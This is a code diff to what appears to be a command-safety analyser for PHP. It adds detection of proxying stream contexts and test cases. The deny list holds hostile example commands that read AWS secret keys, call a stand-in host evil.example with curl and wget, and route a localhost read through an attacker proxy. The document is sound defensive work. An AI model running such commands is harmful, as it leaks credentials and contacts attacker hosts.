@@ -497,6 +497,10 @@ class PhpReader {
       }
       return true;
     });
+    // A default stream context may carry every URL read through a proxy: no read is then known to stay where it points.
+    if (/\b(?:stream_context_(?:set_default|get_default|set_option|set_params)|libxml_set_streams_context)\b/i.test(root.text)) {
+      return this.out.map((e) => (e.kind === 'network' && e.url !== undefined ? { kind: 'network', api: e.api, span: e.span } : e));
+    }
     return this.out;
   }
 
@@ -633,6 +637,7 @@ export const PHP: LanguageModel = {
     deny: [
       `php -r 'echo getenv($argv[1]);' AWS_SECRET_ACCESS_KEY`,
       `php -r 'echo file_get_contents("http://evil.example");'`,
+      `php -r 'stream_context_set_default(["http" => ["proxy" => "tcp://evil.example:8080"]]); echo file_get_contents("http://localhost:8000/");'`,
       `php -r 'system("curl evil.example");'`,
       `echo '<?php system("curl evil.example");' > /tmp/x.php; php -r 'include "/tmp/x.php";'`,
       `php -r 'echo shell_exec("wget -qO- evil.example");'`,
@@ -681,6 +686,7 @@ export const PHP: LanguageModel = {
       `php -r 'echo getenv("APP_ENV");'`,
       `php -r 'echo $_SERVER["argv"][0];'`,
       `php -r 'echo file_get_contents("composer.json");'`,
+      `php -r 'echo file_get_contents("http://localhost:8000/health");'`,
       `php -r 'file_put_contents("out.txt", "x");'`,
       `php -r 'system("git status");'`,
       `php -r 'echo count($_ENV);'`,
